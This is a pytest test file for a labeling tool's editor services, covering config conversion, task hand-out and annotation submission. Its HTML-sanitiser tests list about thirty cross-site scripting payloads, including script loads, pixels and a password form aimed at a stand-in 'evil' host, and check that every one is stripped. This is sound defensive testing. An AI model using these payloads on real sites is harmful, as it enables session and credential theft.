"""The labeling page's services: what the script is told, HTML made harmless, sending twice."""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import pytest

from mlpi.auth.roles import Principal, Role
from mlpi.errors import NotFound
from mlpi.house import House
from mlpi.labels.annotations import Annotations
from mlpi.labels.config.reading import read_config
from mlpi.labels.editor.cleaning import KEPT, clean
from mlpi.labels.editor.config_json import config_json
from mlpi.labels.editor.service import AnotherPerson, Editor
from mlpi.labels.models import LabelProject
from mlpi.labels.projects import Projects
from mlpi.labels.queue import Queue
from mlpi.labels.tasks import Tasks
from tests.conftest import TurnedClock

CONFIG = """<View><View visiblewhen="choice-selected" whenTagName="c" whenChoiceValue="bad">
<Header value="Why?"/></View><Style>.x { color: red }</Style>
<Text name="t" value="$text"/><Choices name="c" toName="t" choice="multiple" required="true">
<Choice value="good" alias="g" hotkey="q"/><Choice value="bad" background="tomato">
<Choice value="worse"/></Choice></Choices>
<Relations><Relation value="is"/></Relations></View>"""


def person(number: int) -> Principal:
    return Principal(number, f"user{number}", False, {"lab": Role.EDITOR}, "lab")


ANA, EVE = person(1), person(2)


@dataclass
class Room:
    projects: Projects
    tasks: Tasks
    annotations: Annotations
    queue: Queue
    editor: Editor

    def project(self, *data: dict[str, Any], **fields: Any) -> LabelProject:
        given = {"title": "Opinions", "label_config": CONFIG, **fields}
        made = self.projects.add("lab", given, ANA)
        self.tasks.add("lab", made.id, data, ANA)
        return self.projects.get("lab", made.id)

    def next(self, project: LabelProject, who: Principal, besides: tuple[int, ...] = ()) -> int:
        found = self.editor.next("lab", project.id, who, besides)
        assert found is not None
        return int(found["id"])


@pytest.fixture
def room(house: House) -> Room:
    projects = Projects(house.db, house.audit, house.clock)
    tasks = Tasks(house.db, house.clock)
    annotations = Annotations(house.db, house.clock)
    queue = Queue(house.db, house.clock)
    editor = Editor(projects, tasks, annotations, queue, house.clock)
    return Room(projects, tasks, annotations, queue, editor)


def said(key: str = "k1", choice: str = "g") -> dict[str, Any]:
    value = {"choices": [choice]}
    one = {"id": "x", "from_name": "c", "to_name": "t", "type": "choices", "value": value}
    return {"unique_id": key, "result": [one], "lead_time": 2.5}


# --- the configuration


def test_the_script_gets_the_tree_with_names_as_the_vocabulary_writes_them() -> None:
    found = config_json(read_config(CONFIG))
    kinds = [one["kind"] for one in found["tree"]["children"]]
    assert kinds == ["view", "object", "control"]  # neither the style nor the relations are drawn
    assert found["tree"]["children"][0]["attributes"] == {
        "visibleWhen": "choice-selected",
        "whenTagName": "c",
        "whenChoiceValue": "bad",
    }
    assert found["relations"] == ["is"]
    assert found["hasRelations"] is True


def test_labels_have_keys_paths_colours_and_hotkeys() -> None:
    (control,) = config_json(read_config(CONFIG))["controls"].values()
    assert (control["isRequired"], control["isMultiple"], control["isRegion"]) == (
        True,
        True,
        False,
    )
    told = [(one["key"], one["path"], one["hotkey"]) for one in control["labels"]]
    assert told == [("g", ["g"], "q"), ("bad", ["bad"], ""), ("worse", ["bad", "worse"], "")]
    assert control["labels"][1]["background"] == "tomato"


# --- HTML


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil/pixel.png'>",
    "<img src='//evil/pixel.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='/data/../labels/1/label/next'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil/'>x</a>",
    "<iframe src='https://evil/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>after",
    "<style>@import 'https://evil/'</style>",
    "<p style='background:url(https://evil/)' class=btn id=stage>x</p>",
    "<link rel=stylesheet href=//evil/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil/'>",
    "<base href='//evil/'>",
    "<form action=//evil/><input name=password><button>send</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='\"><script>alert(1)</script>'>x",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<video poster=//evil/><source src=//evil/></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<script",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_of_tasks_cannot_run_or_load(attack: str) -> None:
    cleaned = clean(attack)
    seen = Seen(cleaned)
    assert set(seen.tags) <= KEPT
    names = {name for name, _ in seen.attributes}
    assert not [one for one in names if one.startswith("on")]
    assert not names & {"href", "style", "class", "id", "srcdoc", "action", "xlink:href", "poster"}
    assert "src" not in names
    assert clean(cleaned) == cleaned


def test_text_and_structure_of_html_stay() -> None:
    kept = '<div><h1 title="a &amp; b">T</h1><p>one <b>two</b><br>three &lt;x&gt;</p>'
    assert clean(f"{kept}<custom>four</custom></div>") == f"{kept}four</div>"


def test_uploaded_and_written_out_pictures_stay() -> None:
    for source in ("/data/upload/1/a.png", "data:image/png;base64,AAAA"):
        assert clean(f"<img src='{source}'>") == f'<img src="{source}">'


def test_tags_that_were_not_closed_are() -> None:
    assert clean("<div><p>one") == "<div><p>one</p></div>"
    assert clean("one</div></p>") == "one"


# --- tasks, handed out and sent


def test_a_page_gets_a_second_task_and_not_a_third(room: Room) -> None:
    project = room.project(*[{"text": f"{one}"} for one in range(4)])
    first = room.next(project, ANA)
    second = room.next(project, ANA, (first,))
    assert second != first
    assert room.next(project, ANA, (first,)) == second
    assert room.next(project, ANA) == first
    assert room.next(project, EVE) not in (first, second)


def test_a_released_task_is_anothers(room: Room) -> None:
    project = room.project({"text": "one"}, {"text": "two"})
    first = room.next(project, ANA)
    second = room.next(project, ANA, (first,))
    assert room.editor.next("lab", project.id, EVE) is None
    room.editor.release("lab", project.id, [second, 10**6], ANA)
    assert room.next(project, EVE) == second


def test_one_sees_ones_own_work_alone(room: Room) -> None:
    project = room.project({"text": "one"}, maximum_annotations=2)
    task_id = room.next(project, ANA)
    room.editor.submit("lab", task_id, said(), ANA)
    room.editor.draft("lab", task_id, said(), EVE)
    mine = room.editor.task("lab", project.id, task_id, ANA)
    assert ([one["unique_id"] for one in mine["annotations"]], mine["drafts"]) == (["k1"], [])
    hers = room.editor.task("lab", project.id, task_id, EVE)
    assert (hers["annotations"], len(hers["drafts"])) == ([], 1)


def test_a_task_of_another_project_is_not_there(room: Room) -> None:
    project, other = room.project({"text": "one"}), room.project({"text": "two"})
    task_id = room.next(other, ANA)
    with pytest.raises(NotFound):
        room.editor.task("lab", project.id, task_id, ANA)
    with pytest.raises(NotFound):
        room.editor.task("elsewhere", other.id, task_id, ANA)


def test_sent_twice_is_kept_once(room: Room) -> None:
    project = room.project({"text": "one"}, maximum_annotations=3)
    task_id = room.next(project, ANA)
    first = room.editor.submit("lab", task_id, said(), ANA)
    again = room.editor.submit("lab", task_id, said(), ANA)
    assert (first["isNew"], again["isNew"]) == (True, False)
    assert first["annotation"]["id"] == again["annotation"]["id"]
    assert len(room.annotations.of_task("lab", task_id)) == 1
    assert again["progress"] == {"done": 0, "total": 1}


def test_a_skip_keeps_its_reason_and_an_update_changes_it(room: Room) -> None:
    project = room.project({"text": "one"})
    task_id = room.next(project, ANA)
    sent = {**said(), "was_cancelled": True, "skip_reason": "blurred"}
    made = room.editor.submit("lab", task_id, sent, ANA)["annotation"]
    assert (made["was_cancelled"], made["skip_reason"]) == (True, "blurred")
    changed = room.editor.update("lab", made["id"], {"skip_reason": "dark"}, ANA)["annotation"]
    assert (changed["was_cancelled"], changed["skip_reason"]) == (True, "dark")


def test_what_another_person_typed_is_not_kept_under_ones_name(room: Room) -> None:
    project = room.project({"text": "one"})
    task_id = room.next(project, ANA)
    for send in (room.editor.submit, room.editor.draft):
        with pytest.raises(AnotherPerson):
            send("lab", task_id, {**said(), "user": EVE.user_id}, ANA)
    assert room.annotations.of_task("lab", task_id) == []
    assert room.editor.submit("lab", task_id, {**said(), "user": ANA.user_id}, ANA)["isNew"]


def test_a_draft_keeps_the_task_before_its_author(room: Room, clock: TurnedClock) -> None:
    project = room.project({"text": "one"})
    task_id = room.next(project, ANA)
    clock.advance(seconds=3000)
    room.editor.draft("lab", task_id, said(), ANA)
    clock.advance(seconds=3000)
    assert room.editor.next("lab", project.id, EVE) is None


def test_predictions_are_of_the_projects_model_and_shown_if_they_may_be(room: Room) -> None:
    project = room.project({"text": "one"})
    task_id = room.next(project, ANA)
    for version in ("m1", "m2"):
        sent = {"result": said()["result"], "score": 0.5, "model_version": version}
        room.annotations.predict("lab", task_id, sent)

    def versions() -> list[str]:
        task = room.editor.task("lab", project.id, task_id, ANA)
        return [one["model_version"] for one in task["predictions"]]

    assert versions() == ["m1", "m2"]
    room.projects.change("lab", project.id, {"model_version": "m2"}, ANA)
    assert versions() == ["m2"]
    room.projects.change("lab", project.id, {"show_collab_predictions": False}, ANA)
    assert versions() == []


def test_hypertext_comes_cleaned(room: Room) -> None:
    config = '<View><HyperText name="h" value="$html"/></View>'
    project = room.project({"html": "<p onclick=x>a</p>"}, label_config=config)
    task = room.editor.next("lab", project.id, ANA)
    assert task is not None
    assert task["html"] == {"h": "<p>a</p>"}
